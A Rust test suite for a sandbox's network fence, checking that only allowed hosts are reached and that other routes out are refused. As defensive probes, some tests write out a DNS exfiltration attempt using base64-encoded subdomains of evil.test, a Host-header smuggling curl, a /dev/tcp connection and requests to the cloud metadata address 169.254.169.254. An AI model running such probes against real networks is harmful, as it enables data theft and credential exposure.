//! Hosts by name: those that are allowed are reached as on any network, and nothing else is.
//!
//! Names are looked up on the host by a `getent` of the test's own, which writes down what it was asked for; servers are
//! the test's own on loopback, which a rule has to name.

use std::net::{TcpListener, UdpSocket};

use crate::suite::approval::Person;
use crate::suite::fence_network_support::{Server, has_way_out, names_asked, python, room};
use crate::suite::fence_support::{Launcher, SOCKETS, for_every_launcher};
use crate::suite::support::Room;

for_every_launcher! {
    allowed_hosts_are_reached_as_on_any_network,
    what_is_not_allowed_is_refused_by_name,
    names_stay_here_until_a_connection_is_allowed,
    a_name_that_leads_elsewhere_is_refused,
    a_host_is_no_way_to_another_one,
    the_port_cannot_be_exchanged_meanwhile,
    what_was_said_before_the_end_arrives,
    a_session_tells_of_each_connection,
    a_thousand_connections_at_once,
    no_other_way_leads_out,
    every_precision_has_a_way_out,
    a_port_of_the_host_is_reached_when_it_is_allowed,
    connections_in_a_minute_are_limited,
}

fn allowed_hosts_are_reached_as_on_any_network(launcher: Launcher) {
    let server = Server::new();
    let port = server.port;
    let nobody = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let rules = [format!("a.test:{port}"), format!(".test:{nobody}"), "127.0.0.1".to_owned()];
    let room = room(launcher, "127.0.0.1", &rules);
    if !has_way_out(&room, &server) {
        return;
    }
    let lines = [
        format!("waiting,a.test,{port}"),
        format!("waiting,A.TEST,{port}"),
        format!("loop,a.test,{port}"),
        format!("mapped,a.test,{port}"),
        format!("waiting,a.test,{nobody}"),
        format!("loop,a.test,{nobody}"),
        format!("datagram,a.test,{port}"),
    ];
    let ran = python(&room, &lines);
    let want = [
        format!("('heard hello', {port})"),
        format!("('heard hello', {port})"),
        "('EINPROGRESS', True, 0)".to_owned(),
        "heard hello".to_owned(),
        "ECONNREFUSED".to_owned(),
        "('EINPROGRESS', True, 'ECONNREFUSED')".to_owned(),
        "sent".to_owned(),
    ];
    let want: Vec<String> = lines.iter().zip(want).map(|(line, want)| format!("{line} {want}")).collect();
    assert_eq!(ran.stdout.lines().collect::<Vec<_>>(), want, "{ran:?}");
    assert_eq!(ran.resources(), Vec::<&str>::new(), "{ran:?}");
    let connections = ran.json["connections"].as_array().unwrap();
    assert_eq!(connections.len(), 4, "{connections:?}");
    let first = &connections[0];
    assert_eq!((&first["host"], &first["port"]), (&"a.test".into(), &port.into()));
    assert_eq!((&first["bytesOut"], &first["bytesIn"]), (&5.into(), &11.into()), "{first}");
    let log = room.run(&["log", "--network"]).expect(0).stdout;
    assert!(log.contains(&format!("a.test:{port}")) && log.contains("127.0.0.1"), "{log}");
}

fn what_is_not_allowed_is_refused_by_name(launcher: Launcher) {
    let (server, other) = (Server::new(), Server::new());
    let rules = [format!("a.test:{}", server.port), "*.wild.test".to_owned(), "127.0.0.1".to_owned()];
    let room = room(launcher, "127.0.0.1", &rules);
    if !has_way_out(&room, &server) {
        return;
    }
    let lines = [
        format!("waiting,b.test,{}", server.port),
        format!("loop,b.test,{}", server.port),
        format!("waiting,a.test,{}", other.port),
        format!("waiting,wild.test,{}", other.port),
        "waiting,x.wild.test,22".to_owned(),
        "waiting,198.51.100.7,443".to_owned(),
        "waiting,198.18.77.77,443".to_owned(),
        format!("waiting,127.0.0.2,{}", other.port),
        format!("fast,a.test,{}", other.port),
    ];
    let ran = python(&room, &lines);
    assert!(!ran.stdout.contains("heard"), "{ran:?}");
    assert_eq!(other.heard(), 0, "{ran:?}");
    let resources = ran.resources();
    for refused in [
        format!("b.test:{}", server.port),
        format!("a.test:{}", other.port),
        format!("wild.test:{}", other.port),
        "x.wild.test:22".to_owned(),
        "198.51.100.7:443".to_owned(),
    ] {
        assert!(resources.contains(&refused.as_str()), "{refused}: {resources:?}");
    }
    let messages = ran.json["violations"].to_string();
    assert!(messages.contains("port 22 is blocked"), "{messages}");
}

fn names_stay_here_until_a_connection_is_allowed(launcher: Launcher) {
    let server = Server::new();
    let room = room(launcher, "127.0.0.1", &[format!("a.test:{}", server.port), "127.0.0.1".to_owned()]);
    if !has_way_out(&room, &server) {
        return;
    }
    let before = names_asked(&room);
    assert!(before.lines().all(|name| name == "a.test"), "{before}");
    let ran = room.fenced(
        "getent hosts c2VjcmV0.evil.test; python3 - <<'E'\nimport socket\nprint(socket.gethostbyname('bW9yZQ.evil.test'))\ns=socket.socket(type=socket.SOCK_DGRAM)\ns.sendto(b'\\0'*40, ('192.0.2.53', 53))\nE\npython3 network.py waiting,ZXZlbg.evil.test,443",
    );
    assert!(ran.stdout.contains("198.18."), "{ran:?}");
    assert_eq!(names_asked(&room), before, "nobody else heard of them");
    assert!(ran.resources().contains(&"zxzlbg.evil.test:443"), "{ran:?}");
}

fn a_name_that_leads_elsewhere_is_refused(launcher: Launcher) {
    let server = Server::new();
    let port = server.port;
    for (addresses, word) in [
        ("127.0.0.1", "machine itself"),
        ("169.254.169.254", "metadata"),
        ("::ffff:169.254.169.254", "metadata"),
        ("64:ff9b::a9fe:a9fe", "metadata"),
        ("100.64.1.1", "provider's own"),
        ("10.9.8.7", "private"),
        ("::1", "machine itself"),
    ] {
        let room = room(launcher, addresses, &[format!("*.test:{port}")]);
        if !has_way_out(&room, &server) {
            return;
        }
        let ran = python(&room, &[format!("waiting,a.test,{port}"), format!("loop,a.test,{port}")]);
        assert!(!ran.stdout.contains("heard"), "{addresses}: {ran:?}");
        // Where the supervisor answers for the socket, it says which kind of refusal it was.
        let refusal = if launcher == Launcher::Landlock { "EACCES" } else { "ECONNREFUSED" };
        assert_eq!(ran.stdout.matches(refusal).count(), 2, "{addresses}: {ran:?}");
        assert_eq!(ran.resources(), [format!("a.test:{port}")], "{addresses}: {ran:?}");
        assert!(ran.json["violations"][0]["message"].to_string().contains(word), "{addresses}: {ran:?}");
        assert_eq!(server.heard(), 0, "{addresses}");
    }
}

fn a_host_is_no_way_to_another_one(launcher: Launcher) {
    let server = Server::new();
    let port = server.port;
    let room = room(launcher, "127.0.0.1", &[format!("a.test:{port}"), "127.0.0.1".to_owned()]);
    if !has_way_out(&room, &server) {
        return;
    }
    let before = server.heard();
    let ran = python(&room, &[format!("hello,a.test,{port},evil.test")]);
    assert!(!ran.stdout.contains("shaken"), "{ran:?}");
    assert_eq!(ran.resources(), ["evil.test"], "{ran:?}");
    let ran = room.fenced(&format!("curl -sS -m 20 -H 'Host: evil.test' http://a.test:{port}/"));
    assert_eq!(ran.resources(), ["evil.test"], "{ran:?}");
    let heard = server.heard.lock().unwrap();
    assert!(heard[before..].iter().all(Vec::is_empty), "{heard:?}");
}

fn the_port_cannot_be_exchanged_meanwhile(launcher: Launcher) {
    let (server, other) = (Server::new(), Server::new());
    let room = room(launcher, "127.0.0.1", &[format!("a.test:{}", server.port), "127.0.0.1:1".to_owned()]);
    room.configure(
        &serde_json::json!({ "allowedHosts": [format!("a.test:{}", server.port), "127.0.0.1:1"] })
            .to_string(),
    );
    if !has_way_out(&room, &server) {
        return;
    }
    let ran = python(&room, &[format!("swap,a.test,{},{},400", server.port, other.port)]);
    assert_eq!(other.heard(), 0, "{ran:?}");
    assert!(ran.resources().contains(&format!("a.test:{}", other.port).as_str()), "both were tried: {ran:?}");
    assert!(server.heard() > 1, "{ran:?}");
}

fn what_was_said_before_the_end_arrives(launcher: Launcher) {
    const MUCH: usize = 20_000_000;
    let server = Server::new();
    let port = server.port;
    let room = room(launcher, "127.0.0.1", &[format!("a.test:{port}"), "127.0.0.1".to_owned()]);
    if !has_way_out(&room, &server) {
        return;
    }
    let ran = python(&room, &[format!("leaves,a.test,{port},{MUCH}")]);
    assert!(ran.stdout.contains("said"), "{ran:?}");
    let all = || server.heard.lock().unwrap().iter().any(|said| said.len() == MUCH);
    assert!(crate::suite::fence_support::wait_until(std::time::Duration::from_secs(20), all), "{ran:?}");
}

fn a_session_tells_of_each_connection(launcher: Launcher) {
    let server = Server::new();
    let port = server.port;
    let room = room(launcher, "127.0.0.1", &[format!("a.test:{port}"), "127.0.0.1".to_owned()]);
    if !has_way_out(&room, &server) {
        return;
    }
    let command = format!("python3 network.py waiting,a.test,{port} waiting,b.test,{port}");
    let line = serde_json::json!({ "id": 1, "command": command });
    let told = room.session(&format!("{line}\n"));
    let of = |name: &str, field: &str| -> Vec<serde_json::Value> {
        let all = told.iter().filter(|line| line["event"] == name);
        all.map(|line| line[name][field].clone()).collect()
    };
    assert_eq!(of("connection", "host"), ["a.test"], "{told:?}");
    assert_eq!(of("violation", "resource"), [format!("b.test:{port}")], "{told:?}");
}

fn a_thousand_connections_at_once(launcher: Launcher) {
    let server = Server::new();
    let port = server.port;
    let room = room(launcher, "127.0.0.1", &[format!("a.test:{port}"), "127.0.0.1".to_owned()]);
    if !has_way_out(&room, &server) {
        return;
    }
    let ran = room.fenced(&format!("ulimit -n 4096; python3 network.py many,a.test,{port},1000"));
    assert!(ran.stdout.ends_with(" 1000\n"), "{ran:?}");
}

fn connections_in_a_minute_are_limited(launcher: Launcher) {
    let server = Server::new();
    let port = server.port;
    let room = room(launcher, "127.0.0.1", &[]);
    let config = serde_json::json!({
        "allowedHosts": [format!("a.test:{port}"), "127.0.0.1"],
        "network": { "maxConnectionsPerMinute": 3 },
    });
    room.configure(&config.to_string());
    if !has_way_out(&room, &server) {
        return;
    }
    // Each sandbox counts its own.
    let ran = python(&room, &vec![format!("waiting,a.test,{port}"); 5]);
    assert_eq!(ran.stdout.matches("heard hello").count(), 3, "{ran:?}");
    assert_eq!(ran.stdout.matches("ECONNREFUSED").count(), 2, "{ran:?}");
    assert_eq!(ran.resources(), [format!("a.test:{port}")], "{ran:?}");
    let messages = ran.json["violations"].to_string();
    assert!(messages.contains("network.maxConnectionsPerMinute"), "{messages}");
    assert_eq!(server.heard(), 4, "with the first look");
}

/// The ways out that are none without a network are none with one.
fn no_other_way_leads_out(launcher: Launcher) {
    let server = Server::new();
    let port = server.port;
    let outside = UdpSocket::bind("127.0.0.1:0").unwrap();
    outside.set_nonblocking(true).unwrap();
    let room = room(launcher, "127.0.0.1", &[format!("a.test:{port}"), "127.0.0.1".to_owned()]);
    room.helper(&SOCKETS);
    if !has_way_out(&room, &server) {
        return;
    }
    let udp = outside.local_addr().unwrap().port();
    let ways = [
        "tcp4 192.0.2.1 80".to_owned(),
        "tcp4 169.254.169.254 80".to_owned(),
        "tcp4-fastopen 192.0.2.1 80".to_owned(),
        "udp4 192.0.2.1 123".to_owned(),
        "udp4-sendto 192.0.2.1 123".to_owned(),
        "udp4-sendmsg 192.0.2.1 123".to_owned(),
        format!("udp4-sendto 198.18.0.2 {udp}"),
        format!("udp4-sendmsg 198.18.0.2 {udp}"),
        format!("udp4-sendto 127.0.0.1 {udp}"),
        format!("udp4-sendmsg 127.0.0.1 {udp}"),
        "tcp6 2001:db8::1 80".to_owned(),
        "tcp6 64:ff9b::c000:201 80".to_owned(),
        "raw4".to_owned(),
        "raw6".to_owned(),
        "packet".to_owned(),
        "netlink-netfilter".to_owned(),
        "vsock".to_owned(),
        "sctp".to_owned(),
    ];
    let looked_up = "python3 -c 'import socket; socket.gethostbyname(\"a.test\")'\n".to_owned();
    let script: String = ways.iter().map(|way| format!("echo \"{way}: $(./sockets {way})\"\n")).collect();
    let ran = room.fenced(&(looked_up + &script));
    // Datagrams within the sandbox's own network may be sent; they arrive nowhere.
    let is_inside =
        |line: &str| ["198.18.0.2", "127.0.0.1", "sendmsg"].iter().any(|inside| line.contains(inside));
    let got: Vec<&str> = ran.stdout.lines().filter(|line| !is_inside(line)).collect();
    assert_eq!(got.len(), ways.len() - 5, "{ran:?}");
    assert!(got.iter().all(|line| line.contains(": refused ")), "{got:#?}");
    assert!(outside.recv(&mut [0; 16]).is_err(), "{ran:?}");
    let said = server.heard.lock().unwrap().len();
    assert_eq!(said, 1, "only the first try arrived: {ran:?}");
}

fn every_precision_has_a_way_out(launcher: Launcher) {
    let server = Server::new();
    let port = server.port;
    let room = room(launcher, "127.0.0.1", &[format!("a.test:{port}"), "127.0.0.1".to_owned()]);
    for precision in ["off", "writes"] {
        let text =
            format!("python3 network.py waiting,a.test,{port} loop,a.test,{port} waiting,b.test,{port}");
        let ran = room.fenced_with(&["--precision", precision], &text);
        if !ran.promises("noWayOut") {
            return;
        }
        assert!(ran.stdout.contains("heard hello"), "{precision}: {ran:?}");
        assert!(ran.stdout.contains("('EINPROGRESS', True, 0)"), "{precision}: {ran:?}");
        assert!(ran.stdout.contains(&format!("waiting,b.test,{port} EACCES")), "{precision}: {ran:?}");
        assert_eq!(ran.resources(), [format!("b.test:{port}")], "{precision}: {ran:?}");
    }
}

fn a_port_of_the_host_is_reached_when_it_is_allowed(launcher: Launcher) {
    let (server, other) = (Server::new(), Server::new());
    let room = room(launcher, "127.0.0.1", &[format!("host-port:{}", server.port)]);
    let lines = [
        format!("waiting,127.0.0.1,{}", server.port),
        format!("loop,localhost,{}", server.port),
        format!("waiting,127.0.0.1,{}", other.port),
    ];
    let ran = python(&room, &lines);
    if !ran.promises("noWayOut") {
        return;
    }
    assert!(ran.stdout.contains(&format!("('heard hello', {})", server.port)), "{ran:?}");
    assert!(ran.stdout.contains("('EINPROGRESS', True, 0)"), "{ran:?}");
    assert_eq!(ran.resources(), [format!("127.0.0.1:{}", other.port)], "{ran:?}");
    assert_eq!(other.heard(), 0, "{ran:?}");
}

/// A room in which a person is asked about hosts that no rule names.
fn room_that_asks(launcher: Launcher) -> Room {
    let room = room(launcher, "127.0.0.1", &[]);
    let config = serde_json::json!({ "allowedHosts": ["127.0.0.1"], "network": { "ask": true } });
    room.configure(&config.to_string());
    room
}

#[test]
fn a_person_is_asked_about_a_host_and_the_call_waits() {
    let server = Server::new();
    let port = server.port;
    for launcher in [Launcher::Native, Launcher::Bwrap, Launcher::Landlock] {
        let room = room_that_asks(launcher);
        let text =
            format!("python3 network.py waiting,a.test,{port} loop,a.test,{port} waiting,a.test,{port}");
        let mut person =
            Person::at_terminal(&room, &["run", "--no-gate", "--launcher", launcher.name(), "-c", &text]);
        person.sees(&format!("wants to connect to a.test:{port}"));
        assert_eq!(names_asked(&room), "", "nobody looks for it before the answer");
        person.answers("s");
        let (code, screen) = person.leaves();
        assert_eq!(code, 0, "{screen}");
        assert_eq!(screen.matches("wants to connect").count(), 1, "{screen}");
        assert_eq!(screen.matches("heard hello").count(), 2, "{screen}");
        assert!(screen.contains("('EINPROGRESS', True, 0)"), "{screen}");
    }
}

#[test]
fn a_host_that_a_person_refuses_is_not_reached() {
    let server = Server::new();
    let port = server.port;
    let text =
        format!("python3 network.py loop,a.test,{port}; exec 3<>/dev/tcp/a.test/{port} && echo reached");
    for (launcher, refusal) in [(Launcher::Native, "ECONNREFUSED"), (Launcher::Landlock, "EACCES")] {
        let room = room_that_asks(launcher);
        let options = ["run", "--no-gate", "--launcher", launcher.name(), "-c", &text];
        let mut person = Person::at_terminal(&room, &options);
        person.answers("d");
        let (_, screen) = person.leaves();
        assert!(screen.contains(&format!("('EINPROGRESS', True, '{refusal}')")), "{screen}");
        assert!(screen.contains("Permission denied") && !screen.contains("reached\r"), "{screen}");
        assert_eq!((server.heard(), names_asked(&room).as_str()), (0, ""), "{screen}");
    }
}

#[test]
fn always_is_written_as_a_rule_about_the_host() {
    let server = Server::new();
    let port = server.port;
    let room = room_that_asks(Launcher::Native);
    let text = format!("python3 network.py waiting,a.test,{port}");
    let mut person = Person::at_terminal(&room, &["run", "--no-gate", "-c", &text]);
    person.answers("a");
    let (_, screen) = person.leaves();
    assert!(screen.contains("heard hello"), "{screen}");
    let config = std::fs::read_to_string(room.ringfence_home.join("sandbox.json")).unwrap();
    assert!(config.contains(&format!("a.test:{port}")), "{config}");
    let again = room.run(&["run", "--no-gate", "-c", &text]).expect(0);
    assert!(again.stdout.contains("heard hello"), "{again:?}");
    let explained = room.run(&["explain", &format!("a.test:{port}")]).expect(0).stdout;
    assert!(explained.contains("allowed") && explained.contains("sandbox.json"), "{explained}");
}
